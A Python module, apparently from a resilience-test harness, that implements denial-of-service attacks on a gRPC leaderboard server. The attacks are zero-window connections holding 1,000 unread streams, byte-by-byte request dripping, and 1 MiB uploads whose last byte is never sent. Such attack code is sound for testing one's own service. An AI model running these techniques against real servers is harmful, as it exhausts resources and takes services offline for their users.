"""Answers that are never read, and uploads that never end."""

import asyncio
from collections import deque

from attacks.attacker import Attacker, Fleet
from attacks.connection import Connection
from attacks.frames import MAX_PAYLOAD, Call, Kind, frame
from attacks.paths import BATCH, TOP
from leaderboard.v1 import leaderboard_pb2 as pb

STREAMS = 1_000
_HELD = 16
_NEW_CONNECTION_S = 1.0
_DRIP_S = 0.05
_UPLOAD_BYTES = 2**20
"""The largest legal request; its last byte is never sent."""
_UPLOADS = 32

_TOP = Call(TOP, pb.GetTopUsersRequest(contest_id="good", limit=100).SerializeToString())


async def zero_window(attacker: Attacker) -> None:
    """Send 1,000 calls on a connection that accepts no byte of an answer, and so on."""
    held: deque[Connection] = deque()
    while True:
        connection = await _connection(attacker, held)
        if connection:
            calls = [_TOP.frames(connection.next_stream()) for _ in range(_streams(connection))]
            connection.send(b"".join(calls))
            connection.stop_reading()
        await asyncio.sleep(_NEW_CONNECTION_S)


async def dripping(attacker: Attacker) -> None:
    """Send the same calls byte by byte on all of their streams in turn."""
    held: deque[Connection] = deque()
    async with asyncio.TaskGroup() as tasks:
        while True:
            connection = await _connection(attacker, held)
            if connection:
                tasks.create_task(_drip(connection))
            await asyncio.sleep(_NEW_CONNECTION_S * 2)


async def _drip(connection: Connection) -> None:
    streams = [connection.next_stream() for _ in range(_streams(connection))]
    connection.send(b"".join(_TOP.headers(stream) for stream in streams))
    connection.stop_reading()
    for at in range(len(_TOP.data)):
        if connection.lost:
            return
        end = int(at == len(_TOP.data) - 1)
        byte = _TOP.data[at : at + 1]
        connection.send(b"".join(frame(Kind.DATA, end, stream, byte) for stream in streams))
        await asyncio.sleep(_DRIP_S)


async def _connection(attacker: Attacker, held: deque[Connection]) -> Connection | None:
    """Open a connection in place of the oldest one, if the server accepts it."""
    if len(held) == _HELD:
        held.popleft().abort()
    try:
        connection = await attacker.connect(window=0)
    except OSError:
        attacker.tally["not_accepted"] += 1
        return None
    held.append(connection)
    return connection


def _streams(connection: Connection) -> int:
    return min(STREAMS, connection.max_streams)


async def unfinished_uploads(attacker: Attacker) -> None:
    """Send up to 512 MiB of requests whose last byte never comes."""
    fleet = Fleet(attacker, size=16)
    call = Call(BATCH, b"")
    prefix = b"\0" + _UPLOAD_BYTES.to_bytes(4)
    chunk = bytes(MAX_PAYLOAD)
    left: dict[tuple[Connection, int], int] = {}
    async for _ in attacker.ticks(1):
        for connection in fleet.connections:
            for _ in range(min(_UPLOADS - len(connection.open), connection.room)):
                stream = connection.next_stream()
                connection.send(call.headers(stream))
                connection.upload(stream, prefix)
                left[connection, stream] = _UPLOAD_BYTES - 1
            for stream in sorted(connection.open):
                if not connection.congested:
                    sent = connection.upload(stream, chunk[: left[connection, stream]])
                    left[connection, stream] -= sent
                    attacker.tally["uploaded_bytes"] += sent
        left = {key: size for key, size in left.items() if key[1] in key[0].open}
